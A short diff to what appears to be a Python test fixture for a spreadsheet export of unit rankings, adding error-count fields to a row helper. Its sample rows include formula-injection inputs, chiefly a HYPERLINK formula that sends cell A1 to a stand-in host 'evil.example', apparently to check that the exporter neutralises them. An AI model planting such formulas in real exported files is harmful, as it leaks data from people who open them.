@@ -13,7 +13,8 @@ FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点击")'
 def _row(rank, unit, points):
     return {"rank": rank, "unit": unit, "submitted": 3, "adopted": 1, "adopted_county": 1, "adopted_city": 0,
             "adopted_province": 0, "adopted_central": 0, "adoption_rate": 0.3333, "points": points,
-            "problem_trend_share": 0.5, "months_without_adoption": ["2026-11"]}
+            "problem_trend_share": 0.5, "months_without_adoption": ["2026-11"],
+            "with_errors": 1, "error_rate": 0.5}
 
 
 ROWS = [_row(1, FORMULA, 9.5), _row(2, "城关镇\x07人民政府", -1.0), _row(3, "@SUM(1)", 0.5)]
